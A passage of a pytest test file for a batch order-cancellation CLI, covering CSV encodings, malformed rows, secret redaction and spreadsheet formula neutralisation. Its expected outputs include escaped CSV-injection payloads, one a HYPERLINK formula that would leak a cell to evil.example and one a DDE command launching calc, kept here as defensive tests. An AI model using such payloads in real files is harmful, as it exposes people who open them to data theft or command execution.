"""Hostile input and secrets: the corpus in tests/data/input, row by row; file-level
refusals; formula-safe results; the API key never leaking; TLS always verified.

Each corpus file imitates one habit of real exports (see make_corpus.py). The
loader-level tests assert every row's outcome and message; the CLI-level tests
assert exit statuses and one-line messages the way cron will see them.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import errno
import importlib.util
import json
import logging
import os
import shutil
import ssl
import subprocess
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web

from batch_cancel import cli
from batch_cancel.client import ShipperClient, parse_error
from batch_cancel.config import (
    InputOptions,
    SendOptions,
    input_options,
    read_api_key_file,
    send_options_from_env,
)
from batch_cancel.errors import ConfigError, InputFileError, MissingColumnsError
from batch_cancel.job import JobOptions
from batch_cancel.loader import OrdersFile
from batch_cancel.models import CancelRequest, LoadedRow, LocalCode, Outcome, RowResult
from batch_cancel.report import ResultsWriter
from batch_cancel.schema import RESULT_COLUMNS, safe_cell

from .conftest import Sandbox
from .helpers import cli_env, read_results, run_cli, write_csv

CORPUS = Path(__file__).resolve().parent / "data" / "input"
SEND = "send"
# Distinctive, so that a leak anywhere is found by a plain substring search.
CANARY_KEY = "sk-live-CANARY-9f3b7c1e5a2d4f60"
OTHER_CANARY_KEY = "sk-live-WRONGKEY-0d8e6a4c2b1f3e57"


def load(name: str, **options: Any) -> OrdersFile:
    return OrdersFile(InputOptions(path=CORPUS / name, **options))


def outcomes(orders: OrdersFile) -> list[tuple[Any, ...]]:
    """One tuple per row: what would be sent, or the verdict with its full message."""
    seen: list[tuple[Any, ...]] = []
    for row in orders.rows():
        if row.verdict is None:
            request = row.request
            assert request is not None
            seen.append(
                (
                    row.source_row,
                    SEND,
                    request.order_no,
                    request.warehouse_id,
                    request.cancel_reason,
                )
            )
        else:
            assert row.verdict is not None
            verdict = row.verdict
            seen.append(
                (row.source_row, verdict.status.value, verdict.error_code, verdict.error_message)
            )
    return seen


def assert_rows(orders: OrdersFile, expected: list[tuple[Any, ...]]) -> None:
    """Like ==, but a verdict's expected message need only be contained in the real one."""
    seen = outcomes(orders)
    assert [row[:3] for row in seen] == [row[:3] for row in expected], seen
    for got, want in zip(seen, expected, strict=True):
        if want[1] == SEND:
            assert got == want
        else:
            assert want[3] in got[3], (got, want)


def cells_of(orders: OrdersFile) -> list[tuple[str, ...]]:
    return [row.cells for row in orders.rows()]


# --- the corpus is what make_corpus.py says ----------------------------------------------


def test_corpus_files_match_their_generator() -> None:
    spec = importlib.util.spec_from_file_location("make_corpus", CORPUS / "make_corpus.py")
    assert spec is not None
    assert spec.loader is not None
    generator = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(generator)
    for name, data in generator.CORPUS.items():
        assert (CORPUS / name).read_bytes() == data, f"{name}: run make_corpus.py"


# --- encodings -----------------------------------------------------------------------------


def test_utf8_with_bom_and_crlf() -> None:
    orders = load("utf8-bom-crlf.csv")
    assert orders.header == ["order_no", "warehouse_id", "cancel_reason"]  # no BOM in the name
    assert orders.notes == []
    assert_rows(
        orders,
        [
            (1, SEND, "ORD-001", "WH-TGR04", "Pembeli membatalkan pesanan"),
            (2, SEND, "ORD-002", "WH-TGR04", "Café tutup ☕"),
        ],
    )


def test_not_utf8_is_read_as_cp1252_with_a_warning(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger="batch_cancel"):
        orders = load("cp1252.csv")
    assert_rows(
        orders,
        [
            (1, SEND, "ORD-101", "WH-TGR04", "Cliente canceló “pedido”"),
            # 0x81 is undefined in cp1252: read as U+0081 and reported, never guessed.
            (2, "invalid", "control_characters", "order_no contains a control character (U+0081)"),
            (3, SEND, "ORD-103", "WH-TGR04", "Stok habis"),
        ],
    )
    [note] = orders.notes  # complete once the rows have been read
    assert note == (
        f"{CORPUS / 'cp1252.csv'}: 2 lines (2, 3) not valid UTF-8, read as Windows-1252 "
        "(cp1252): check accented letters in those rows, or pass --encoding"
    )
    assert note in caplog.text


def test_explicit_encoding_is_obeyed_strictly() -> None:
    with pytest.raises(
        InputFileError,
        match=r"cp1252.csv: not valid utf-8 at line 2 \(invalid continuation byte\); pass the "
        "file's real --encoding$",
    ):
        load("cp1252.csv", encoding="utf-8")
    with pytest.raises(InputFileError, match="not valid cp1252 at line 3"):
        load("cp1252.csv", encoding="cp1252")  # 0x81: strict when the operator names it
    # latin-1 reads every byte, but its 0x93/0x94 are control characters, not quotes.
    latin1 = load("cp1252.csv", encoding="latin-1")
    assert latin1.notes == []
    assert [row[:3] for row in outcomes(latin1)] == [
        (1, "invalid", "control_characters"),
        (2, "invalid", "control_characters"),
        (3, SEND, "ORD-103"),
    ]


def test_unknown_encoding_name() -> None:
    with pytest.raises(InputFileError, match="unknown --encoding 'klingon'"):
        load("utf8-bom-crlf.csv", encoding="klingon")


def test_excel_unicode_text_is_utf16_le_tab_separated() -> None:
    orders = load("utf16le-excel.txt")
    assert (orders.encoding, orders.delimiter) == ("UTF-16", "\t")
    assert orders.header == ["order_no", "warehouse_id", "cancel_reason"]
    assert_rows(
        orders,
        [
            (1, SEND, "ORD-201", "WH-TGR04", "Pesanan dibatalkan, stok habis"),
            (2, SEND, "ORD-202", "WH-SBY02", "Désolé"),
        ],
    )


def test_utf16_big_endian_by_its_bom() -> None:
    assert_rows(load("utf16be.csv"), [(1, SEND, "ORD-211", "WH-TGR04", "Ünïcödé reason")])


# --- structure -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "delimiter", "expected"),
    [
        ("semicolon.csv", ";", (1, SEND, "ORD-221", "WH-TGR04", "Stok habis, maaf")),
        ("tab.tsv", "\t", (1, SEND, "ORD-222", "WH-TGR04", "Out, sorry")),
        ("pipe.csv", "|", (1, SEND, "ORD-223", "WH-TGR04", "Out, sorry")),
    ],
)
def test_delimiter_detected_from_header(
    name: str, delimiter: str, expected: tuple[Any, ...]
) -> None:
    orders = load(name)
    assert orders.delimiter == delimiter
    assert_rows(orders, [expected])


def test_quoted_fields_with_delimiters_quotes_and_line_breaks() -> None:
    orders = load("quoting.csv")
    assert_rows(
        orders,
        [
            (1, SEND, "ORD-301", "WH-TGR04", "Out of stock, buyer asked"),
            (2, SEND, "ORD-302", "WH-TGR04", 'He said "cancel" twice'),
            # a line break typed into the reason is layout: sent as one line
            (3, SEND, "ORD-303", "WH-TGR04", "Line one line two"),
            (4, SEND, "ORD-304", "WH-TGR04", '5" screen cracked'),  # a quote mid-field is text
            (5, SEND, "ORD-305x", "WH-TGR04", "r"),  # text after a closing quote joins the value
            (6, "invalid", "order_no_missing", "order_no is blank"),  # "" is an empty value
        ],
    )
    # Echoed cells keep every character, line breaks included.
    assert cells_of(orders)[2] == (
        "ORD-303",
        "WH-TGR04",
        "Line one\r\nline two",
        "a note\nover, two lines",
    )


def test_carriage_return_line_ends() -> None:
    assert_rows(
        load("cr-only.csv"),
        [(1, SEND, "ORD-311", "WH-TGR04", "r"), (2, SEND, "ORD-312", "WH-TGR04", "r")],
    )


def test_blank_and_delimiter_only_lines_are_not_rows() -> None:
    orders = load("blank-lines.csv")
    assert_rows(
        orders,
        [(1, SEND, "ORD-321", "WH-TGR04", "r"), (2, SEND, "ORD-322", "WH-TGR04", "r")],
    )
    assert orders.notes == [
        f"{CORPUS / 'blank-lines.csv'}: 1 line(s) held only delimiters (no values) and were "
        "skipped like blank lines"
    ]


def test_rows_with_too_many_or_too_few_fields_are_invalid_not_dropped() -> None:
    orders = load("ragged.csv")
    too_few = "but the header has 4 (a value is missing, or a line break inside a value"
    assert_rows(
        orders,
        [
            (1, "invalid", "wrong_field_count", "row has 5 field(s) but the header has 4 (a comma"),
            (2, SEND, "ORD-332", "WH-TGR04", "r"),
            (3, "invalid", "wrong_field_count", f"row has 3 field(s) {too_few}"),
            (4, SEND, "ORD-334", "WH-TGR04", "r"),  # one trailing empty field: harmless
            (5, "invalid", "wrong_field_count", f"row has 1 field(s) {too_few}"),
            # an unquoted line break splits one row in two: both halves refused
            (6, "invalid", "wrong_field_count", f"row has 3 field(s) {too_few}"),
            (7, "invalid", "wrong_field_count", f"row has 2 field(s) {too_few}"),
            (8, SEND, "ORD-338", "WH-TGR04", "r"),
            (9, SEND, "ORD-339", "WH-TGR04", "r"),
        ],
    )
    cells = cells_of(orders)
    assert cells[0] == ("ORD-331", "WH-TGR04", "r", "note")  # columns never shift
    assert cells[2] == ("ORD-333", "WH-TGR04", "r")
    assert cells[6] == ("no thanks", "note")


def test_trailing_delimiter_on_header_or_rows() -> None:
    orders = load("trailing-delimiter.csv")
    assert orders.header == ["order_no", "warehouse_id", "cancel_reason", ""]
    assert orders.notes == []  # a nameless last column is Excel's habit, not news
    assert_rows(
        orders,
        [
            (1, SEND, "ORD-341", "WH-TGR04", "r"),
            (2, SEND, "ORD-342", "WH-TGR04", "r"),
            (3, SEND, "ORD-343", "WH-TGR04", "r"),
        ],
    )


def test_unclosed_quote_reports_that_row_and_every_line_after_it() -> None:
    assert_rows(
        load("unclosed-quote.csv"),
        [
            (1, SEND, "ORD-601", "WH-TGR04", "r"),
            (2, "invalid", "unclosed_quote", 'a quote (") opened in this row never closes'),
            (3, "invalid", "unclosed_quote", "not read: after the quote left open in row 2"),
            (4, "invalid", "unclosed_quote", "not read: after the quote left open in row 2"),
        ],
    )


def test_header_only_is_a_quiet_night() -> None:
    orders = load("header-only.csv")
    assert outcomes(orders) == []
    assert orders.notes == [
        f"{CORPUS / 'header-only.csv'}: no data rows (only a header): nothing to do"
    ]


def test_blank_header_name_is_reported() -> None:
    orders = load("blank-header.csv")
    assert orders.notes == [f"{CORPUS / 'blank-header.csv'}: column 2 has no name in the header"]
    assert_rows(orders, [(1, SEND, "ORD-353", "WH-TGR04", "r")])


def test_duplicate_name_of_another_column_is_reported() -> None:
    orders = load("duplicate-other-header.csv")
    assert orders.notes == [
        f"{CORPUS / 'duplicate-other-header.csv'}: columns 4 and 5 are both named 'Note'; "
        "both are copied to the results"
    ]
    assert cells_of(orders) == [("ORD-352", "WH-TGR04", "r", "a", "b")]


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("empty.csv", "file is empty (no header line)"),
        ("binary.csv", "binary data (NUL bytes), not CSV text"),
        ("workbook.csv", "this is an Excel workbook or another zip file, not CSV text; save it"),
        (
            "duplicate-header.csv",
            "the column 'order_no' appears more than once (columns 1 and 4), so order_no is "
            "ambiguous",
        ),
        ("no-header-names.csv", "the header line has no column names"),
        ("header-unclosed-quote.csv", "a quote in the header line never closes"),
    ],
)
def test_files_that_cannot_be_read_are_refused(name: str, message: str) -> None:
    with pytest.raises(InputFileError) as caught:
        load(name)
    assert str(caught.value).startswith(f"{CORPUS / name}: {message}")
    assert "\n" not in str(caught.value)


def test_unreadable_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "orders.csv"
    path.write_text("order_no,warehouse_id,cancel_reason\n")
    real_open = Path.open

    def refuse(self: Path, *args: Any, **kwargs: Any) -> Any:
        if self == path:
            raise PermissionError(13, "Permission denied")
        return real_open(self, *args, **kwargs)

    # Tests may run as root, for whom chmod 000 changes nothing.
    monkeypatch.setattr(Path, "open", refuse)
    with pytest.raises(InputFileError, match=r"orders.csv: cannot read \(Permission denied\)$"):
        OrdersFile(InputOptions(path=path))


def test_a_nul_byte_deep_in_a_text_file_only_spoils_its_row(tmp_path: Path) -> None:
    lines = [f"ORD-{n:05d},WH-TGR04,Cancelled from marketplace" for n in range(400)]
    lines[300] = "ORD-\x0000300,WH-TGR04,r"  # well past the first 8000 bytes
    path = tmp_path / "nul.csv"
    path.write_text("order_no,warehouse_id,cancel_reason\n" + "\n".join(lines) + "\n")
    seen = outcomes(OrdersFile(InputOptions(path=path)))
    assert len(seen) == 400
    assert seen[300][:3] == (301, "invalid", "control_characters")
    assert "U+0000" in seen[300][3]


def test_header_line_without_end_is_not_a_csv(tmp_path: Path) -> None:
    path = tmp_path / "one-long-line.csv"
    path.write_text("order_no," * 10_000)
    with pytest.raises(InputFileError, match="the first line is longer than 64 KiB"):
        OrdersFile(InputOptions(path=path))


def test_header_after_blank_first_line(tmp_path: Path) -> None:
    path = tmp_path / "late-header.csv"
    path.write_text("\norder_no,warehouse_id,cancel_reason\nA,B,C\n")
    with pytest.raises(InputFileError, match="the first line is blank; the header must be"):
        OrdersFile(InputOptions(path=path))


def test_header_names_match_through_invisible_characters(tmp_path: Path) -> None:
    path = tmp_path / "h.csv"
    path.write_text("\u200bOrder_No\u00a0, warehouse_id ,cancel_reason\nA1,WH,r\n")
    assert_rows(OrdersFile(InputOptions(path=path)), [(1, SEND, "A1", "WH", "r")])


def test_missing_columns_still_listed(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "m.csv", ["order_no", "gudang"], [["A", "B"]])
    with pytest.raises(MissingColumnsError):
        OrdersFile(InputOptions(path=path))


def test_delimiter_must_be_one_ascii_character(tmp_path: Path) -> None:
    for delimiter in ("\uff0c", '"', ";;"):  # a full-width comma, a quote, two characters
        with pytest.raises(ConfigError) as raised:
            input_options(tmp_path / "d.csv", delimiter=delimiter)
        assert str(raised.value) == (
            "--delimiter must be one ASCII character other than a quote or a line break "
            "(use '\\t' for tab)"
        )
    assert input_options(tmp_path / "d.csv", delimiter="\\t").delimiter == "\t"


# --- values --------------------------------------------------------------------------------


def test_values_cleaned_checked_and_normalised() -> None:
    orders = load("values.csv")
    scientific = "is in scientific notation: a spreadsheet turned the order number into a rounded"
    assert_rows(
        orders,
        [
            (1, SEND, "ORD-401", "WH-TGR04", "r"),  # no-break spaces around
            (2, SEND, "ORD-402", "WH-TGR04", "r"),  # zero-width space, BOM around
            (3, SEND, "ORD-403", "WH-TGR04", "r"),  # zero-width space inside
            (
                4,
                "invalid",
                "control_characters",
                "order_no contains a control character (U+0007) at position 8",
            ),
            (
                5,
                "invalid",
                "control_characters",
                "cancel_reason contains a control character (U+001B) at position 5",
            ),
            (6, "invalid", "scientific_notation", f"order_no 1.23457E+14 {scientific}"),
            (7, "invalid", "scientific_notation", f"order_no 1,23457E+14 {scientific}"),
            (8, SEND, "Café-408", "WH-TGR04", "r"),  # NFD in, NFC out
            (9, SEND, "é" * 50, "WH-TGR04", "r"),  # 100 code points, 50 after NFC: fits
            (
                10,
                "invalid",
                "control_characters",
                "order_no contains a control character (U+202E RIGHT-TO-LEFT OVERRIDE)",
            ),
            (11, "invalid", "garbled_text", "order_no contains U+FFFD, the mark of a character"),
            (12, SEND, "ORD-412", "WH-TGR04", "Line one line two"),
            (13, "duplicate", "duplicate_row", "same order_no and warehouse_id as row 1"),
            (14, "invalid", "cancel_reason_missing", "cancel_reason is blank"),
            (15, SEND, "12345678901234", "WH-TGR04", "r"),  # digits alone are fine
        ],
    )
    sent = next(row.request for row in orders.rows() if row.source_row == 8)
    assert sent is not None
    assert sent.order_no == "Caf\u00e9-408" != "Cafe\u0301-408"


# --- results file safety -------------------------------------------------------------------

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_safe_cell_neutralises_formula_triggers(trigger: str) -> None:
    assert safe_cell(f"{trigger}1+1") == f"'{trigger}1+1"


@pytest.mark.parametrize("value", ["", "ORD-1", "1+1", " =1", "'x=1", "é", "5-3"])
def test_safe_cell_leaves_other_text_alone(value: str) -> None:
    assert safe_cell(value) == value


def test_safe_cell_escapes_an_apostrophe_already_in_front_of_a_trigger() -> None:
    # So that reading a results file back can tell "'=1" typed by someone from "=1".
    assert safe_cell("'=1") == "''=1"


def raw_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_dry_run_results_of_formula_corpus_are_neutralised(tmp_path: Path) -> None:
    out = tmp_path / "formulas.results.csv"
    done = run_cli(
        "run", CORPUS / "formulas.csv", "-o", out, "--dry-run", env=cli_env(api_key=None)
    )
    assert done.returncode == 0, done.stderr  # a dry run with every row valid
    header, *rows = raw_rows(out)
    assert header[:4] == ["order_no", "warehouse_id", "cancel_reason", "'=buyer_note"]
    notes = [row[3] for row in rows]
    assert notes == [
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "'+6281234567890",
        "'-5",
        "'@SUM(A1:A9)",
        "'\t=1+1",
        "'\r=1+1",
        "'\uff1d1+1",
        "'\uff0bcmd",
        "'\uff0d1",
        "'\uff20SUM(A1)",
        "x",
        "safe",
    ]
    assert rows[10][0] == "'=cmd|' /C calc'!A0"  # the order_no column too
    assert rows[11][2] == "'=1+1"  # and the cancel_reason column
    for row in rows:
        for cell in row:
            assert not cell.startswith(tuple(TRIGGERS)), row


def test_api_text_is_neutralised_cut_and_one_line(tmp_path: Path) -> None:
    body = json.dumps(
        {
            "metadata": {
                "errors": [
                    {"code": "=2+5", "message": '=HYPERLINK("http://x")\r\n\x1b[2J' + "A" * 900}
                ]
            }
        }
    ).encode()
    code, message = parse_error(body, "application/json")
    result = RowResult(
        source_row=1,
        status=Outcome.REJECTED,
        http_status=400,
        error_code=code,
        error_message=message,
        request_id="@evil\x07",
        attempts=1,
    )
    out = tmp_path / "r.csv"
    with ResultsWriter(out, ["order_no"]) as writer:
        writer.add(LoadedRow(1, ("ORD-1",), None, None), result)
    [_, row] = raw_rows(out)
    written = dict(zip(["order_no", *RESULT_COLUMNS], row, strict=True))
    assert written["result_error_code"] == "'=2+5"
    assert written["result_error_message"].startswith('\'=HYPERLINK("http://x") [2JAAA')
    assert len(written["result_error_message"]) <= 301
    assert written["result_error_message"].isprintable()
    assert written["result_request_id"] == "'@evil"


def test_any_message_reaching_the_writer_is_one_bounded_line(tmp_path: Path) -> None:
    # e.g. an internal_error row carrying an exception's text
    result = RowResult(
        source_row=1,
        status=Outcome.FAILED,
        error_code="internal_error",
        error_message="-boom\nTraceback\x00 " + "x" * 2000,
    )
    out = tmp_path / "r.csv"
    with ResultsWriter(out, ["order_no"]) as writer:
        writer.add(LoadedRow(1, ("ORD-1",), None, None), result)
    message = read_results(out)[0]["result_error_message"]
    assert message.startswith("'-boom Traceback ")
    assert message.isprintable()
    assert len(message) <= 501


# --- secrets ---------------------------------------------------------------------------------


def key_file(directory: Path, content: str, mode: int = 0o600) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "shipper.key"
    path.write_text(content)
    path.chmod(mode)
    return path


def options_with_key_file(path: Path, environ: dict[str, str] | None = None) -> SendOptions:
    return send_options_from_env(
        base_url_flag="https://api.shipper.test",
        rate=5,
        concurrency=4,
        timeout_s=30,
        max_attempts=5,
        api_key_file=path,
        environ=environ or {},
    )


def test_key_file_read_and_trimmed(tmp_path: Path) -> None:
    path = key_file(tmp_path, f"{CANARY_KEY}\n")
    assert read_api_key_file(path) == CANARY_KEY
    # The file wins over the environment: the operator named it on purpose.
    options = options_with_key_file(path, {"SHIPPER_API_KEY": OTHER_CANARY_KEY})
    assert options.api_key == CANARY_KEY
    assert CANARY_KEY not in repr(options)
    assert CANARY_KEY not in str(options)


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604, 0o660, 0o606])
def test_key_file_readable_by_others_is_refused(tmp_path: Path, mode: int) -> None:
    path = key_file(tmp_path, CANARY_KEY, mode)
    with pytest.raises(ConfigError) as caught:
        read_api_key_file(path)
    assert str(caught.value) == (
        f"--api-key-file {path}: other users may read or change it (mode {mode:03o}); "
        f"refusing to use it: run chmod 600 {path}"
    )


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("", "the file is empty"),
        ("\n  \n", "the file is empty"),
        (f"export SHIPPER_API_KEY={CANARY_KEY}\n", "one line of printable ASCII without spaces"),
        (f"{CANARY_KEY}\n{OTHER_CANARY_KEY}\n", "one line of printable ASCII without spaces"),
        (f"{CANARY_KEY}\x00", "one line of printable ASCII without spaces"),
        ("k" * 5000, "larger than 4096 bytes; not a key file"),
    ],
)
def test_bad_key_files_refused_without_quoting_them(
    tmp_path: Path, content: str, message: str
) -> None:
    path = key_file(tmp_path, content)
    with pytest.raises(ConfigError) as caught:
        options_with_key_file(path)
    assert message in str(caught.value)
    assert CANARY_KEY not in str(caught.value)
    assert OTHER_CANARY_KEY not in str(caught.value)


def test_key_file_missing_or_a_directory(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="no such file"):
        read_api_key_file(tmp_path / "nope")
    with pytest.raises(ConfigError, match=r"(not a regular file|cannot read)"):
        read_api_key_file(tmp_path)


def test_environment_key_with_spaces_refused_without_quoting_it() -> None:
    with pytest.raises(ConfigError) as caught:
        send_options_from_env(
            base_url_flag="https://api.shipper.test",
            rate=5,
            concurrency=4,
            timeout_s=30,
            max_attempts=5,
            environ={"SHIPPER_API_KEY": f"Bearer {CANARY_KEY}"},
        )
    assert "SHIPPER_API_KEY: the key must be one line" in str(caught.value)
    assert CANARY_KEY not in str(caught.value)


def test_job_options_repr_hides_the_key(tmp_path: Path) -> None:
    send = SendOptions(base_url="https://api.shipper.test", api_key=CANARY_KEY)
    job = JobOptions(
        input=InputOptions(path=tmp_path / "in.csv"),
        output=tmp_path / "out.csv",
        send=send,
        state_path=None,
    )
    assert CANARY_KEY not in repr(job)
    assert CANARY_KEY not in repr(
        ShipperClient(base_url="https://a.test", api_key=CANARY_KEY, timeout_s=1, max_connections=1)
    )


@pytest.mark.parametrize("log_format", ["text", "json"])
def test_log_redaction_covers_tracebacks(
    log_format: str, capsys: pytest.CaptureFixture[str]
) -> None:
    args = cli.build_parser().parse_args(["validate", "x.csv", "-v"])
    args.log_format = log_format
    root = logging.getLogger()
    saved = (root.handlers[:], root.level)
    try:
        cli._setup_logging(args, secret=CANARY_KEY)
        try:
            raise ValueError(f"header x-api-key: {CANARY_KEY} rejected")
        except ValueError:
            logging.getLogger("batch_cancel.test").exception("boom with %s", CANARY_KEY)
    finally:
        root.handlers[:], root.level = saved
    err = capsys.readouterr().err
    assert "ValueError: header x-api-key: [REDACTED] rejected" in err.replace("\\n", "\n")
    assert "boom with [REDACTED]" in err
    assert CANARY_KEY not in err


def all_output(directory: Path, skip: Path) -> dict[Path, bytes]:
    return {
        path: path.read_bytes()
        for path in sorted(directory.rglob("*"))
        if path.is_file() and path != skip
    }


@pytest.mark.integration
def test_the_key_appears_nowhere_the_cli_writes(
    tmp_path: Path, start_sandbox: Callable[..., Sandbox]
) -> None:
    """Every output, log and file of real runs, grepped for the key: a good key, a wrong one."""
    secret_dir = tmp_path / "secret"
    path = key_file(secret_dir, f"{CANARY_KEY}\n")
    sandbox = start_sandbox("--fail-rate", "0.3", "--seed", "2", api_key=CANARY_KEY)
    work = tmp_path / "work"
    work.mkdir()
    rows = [[f"ORD-{n:03d}", "WH-TGR04", "Cancelled"] for n in range(12)]
    rows += [["", "WH-TGR04", "r"], ["ORD-000", "WH-TGR04", "again"], ["=1+1", "WH", "r"]]
    source = write_csv(work / "in.csv", ["order_no", "warehouse_id", "cancel_reason"], rows)
    env = cli_env(api_key=None, state=tmp_path / "state" / "ledger.sqlite3")
    runs = [
        run_cli(
            "run",
            source,
            "-o",
            work / "out.csv",
            "--base-url",
            sandbox.url,
            "--api-key-file",
            path,
            "--max-attempts",
            "2",
            "--rate",
            "200",
            "-v",
            "--log-format",
            "json",
            "--summary-json",
            work / "summary.json",
            env=env,
        ),
        run_cli(
            "run",
            source,
            "-o",
            work / "again.csv",
            "--base-url",
            sandbox.url,
            "--max-attempts",
            "2",
            "--rate",
            "200",
            "-v",
            "--force-resend",
            "--summary-json",
            work / "again.json",
            env={**env, "SHIPPER_API_KEY": OTHER_CANARY_KEY},
        ),
        run_cli("history", "ORD-001", "--json", env=env),
        run_cli("summarize", work / "out.csv", "--needs-attention", work / "na.csv", env=env),
        run_cli("report", work / "out.csv", "-o", work / "out.html", env=env),
    ]
    assert runs[0].returncode == 1, runs[0].stderr  # an invalid row, perhaps failed ones
    assert runs[1].returncode == 3, runs[1].stderr  # the wrong key was refused
    assert sandbox.stats()["answers"]["401"] >= 1
    files = all_output(tmp_path, skip=path)
    assert {"out.csv", "summary.json", "again.csv", "ledger.sqlite3"} <= {p.name for p in files}
    for key in (CANARY_KEY, OTHER_CANARY_KEY):
        for run in runs:
            assert key not in run.stdout
            assert key not in run.stderr
        for file, data in files.items():
            assert key.encode() not in data, file
            assert key.encode("utf-16-le") not in data, file


# --- the CLI: exit statuses and one-line messages ------------------------------------------


@pytest.mark.integration
def test_header_only_file_is_a_quiet_night(tmp_path: Path) -> None:
    source = tmp_path / "night.csv"
    shutil.copy(CORPUS / "header-only.csv", source)
    done = run_cli(
        "run",
        source,
        "--base-url",
        "http://127.0.0.1:9",
        "-q",
        "--summary-json",
        tmp_path / "s.json",
    )
    assert done.returncode == 0, done.stderr
    assert (
        f"  note: {source}: no data rows (only a header): nothing to do" in done.stderr.splitlines()
    )
    assert raw_rows(tmp_path / "night.results.csv") == [
        ["order_no", "warehouse_id", "cancel_reason", *RESULT_COLUMNS]
    ]
    summary = json.loads((tmp_path / "s.json").read_text())
    assert summary["rows"] == 0
    assert summary["notes"] == [f"{source}: no data rows (only a header): nothing to do"]


@pytest.mark.integration
def test_cp1252_fallback_is_in_the_log_the_summary_and_the_json(tmp_path: Path) -> None:
    source = tmp_path / "erp.csv"
    shutil.copy(CORPUS / "cp1252.csv", source)
    done = run_cli(
        "run", source, "--dry-run", "--summary-json", tmp_path / "s.json", env=cli_env(api_key=None)
    )
    assert done.returncode == 1, done.stderr  # dry run, one invalid row
    note = f"{source}: 2 lines (2, 3) not valid UTF-8, read as Windows-1252 (cp1252)"
    lines = done.stderr.splitlines()
    assert any("WARNING" in line and note in line for line in lines)
    assert any(line.startswith(f"  note: {note}") for line in lines)
    assert json.loads((tmp_path / "s.json").read_text())["notes"][0].startswith(note)
    rows = read_results(tmp_path / "erp.dry-run.csv")
    assert rows[0]["cancel_reason"] == "Cliente canceló “pedido”"


@pytest.mark.integration
@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda d: shutil.copy(CORPUS / "empty.csv", d / "in.csv"), "file is empty (no header"),
        (lambda d: shutil.copy(CORPUS / "binary.csv", d / "in.csv"), "binary data (NUL bytes)"),
        (lambda d: shutil.copy(CORPUS / "workbook.csv", d / "in.csv"), "an Excel workbook"),
        (lambda d: (d / "in.csv").mkdir(), "not a regular file"),
        (lambda d: None, "no such file"),
        (lambda d: shutil.copy(CORPUS / "duplicate-header.csv", d / "in.csv"), "appears more"),
        (lambda d: shutil.copy(CORPUS / "no-header-names.csv", d / "in.csv"), "no column names"),
    ],
)
def test_unusable_files_exit_2_with_one_line(
    tmp_path: Path, make: Callable[[Path], object], message: str
) -> None:
    make(tmp_path)
    done = run_cli("run", tmp_path / "in.csv", "--dry-run", env=cli_env(api_key=None))
    assert done.returncode == 2
    [line] = done.stderr.strip().splitlines()
    assert line.startswith(f"batch-cancel: input error: {tmp_path / 'in.csv'}: ")
    assert message in line
    assert not list(tmp_path.glob("*.results.csv"))


def test_unreadable_file_exits_2(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    source = write_csv(tmp_path / "in.csv", ["order_no"], [["A"]])
    source.chmod(0)
    if os.geteuid() == 0:
        # root reads any file: make the open fail the way it fails for everyone else.
        real_open = Path.open

        def open_as_user(self: Path, *args: Any, **kwargs: Any) -> Any:
            if self == source:
                raise PermissionError(errno.EACCES, "Permission denied", str(self))
            return real_open(self, *args, **kwargs)

        monkeypatch.setattr(Path, "open", open_as_user)
    for name, value in cli_env(api_key=None).items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("SHIPPER_API_KEY", raising=False)
    assert cli.main(["run", str(source), "--dry-run"]) == 2
    assert (
        capsys.readouterr().err.strip()
        == f"batch-cancel: input error: {source}: cannot read (Permission denied)"
    )


@pytest.mark.integration
def test_key_file_readable_by_others_stops_the_run(tmp_path: Path) -> None:
    path = key_file(tmp_path / "secret", CANARY_KEY, 0o644)
    source = write_csv(
        tmp_path / "in.csv", ["order_no", "warehouse_id", "cancel_reason"], [["A", "B", "C"]]
    )
    done = run_cli(
        "run",
        source,
        "--base-url",
        "http://127.0.0.1:9",
        "--api-key-file",
        path,
        env=cli_env(api_key=None),
    )
    assert done.returncode == 2
    assert "other users may read or change it (mode 644)" in done.stderr
    assert CANARY_KEY not in done.stderr + done.stdout


# --- transport -------------------------------------------------------------------------------


def self_signed_certificate(directory: Path) -> tuple[Path, Path]:
    openssl = shutil.which("openssl")
    if openssl is None:
        pytest.skip("openssl is not installed")
    cert, key = directory / "cert.pem", directory / "key.pem"
    subprocess.run(
        [
            openssl,
            "req",
            "-x509",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-days",
            "1",
            "-keyout",
            str(key),
            "-out",
            str(cert),
            "-subj",
            "/CN=127.0.0.1",
            "-addext",
            "subjectAltName=IP:127.0.0.1",
        ],
        check=True,
        capture_output=True,
    )
    return cert, key


@contextlib.asynccontextmanager
async def api_with_untrusted_certificate(tmp_path: Path) -> AsyncIterator[tuple[str, list[str]]]:
    """An HTTPS cancel endpoint with a self-signed certificate: (base URL, keys it received)."""
    cert, key = self_signed_certificate(tmp_path)
    reached: list[str] = []

    async def handler(request: web.Request) -> web.Response:
        reached.append(request.headers.get("x-api-key", ""))
        return web.json_response({})

    app = web.Application()
    app.router.add_route("PATCH", "/v3/fulfillment/outbound/oms/cancel", handler)
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(cert, key)
    runner = web.AppRunner(app)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0, ssl_context=context).start()
        yield f"https://127.0.0.1:{runner.addresses[0][1]}", reached
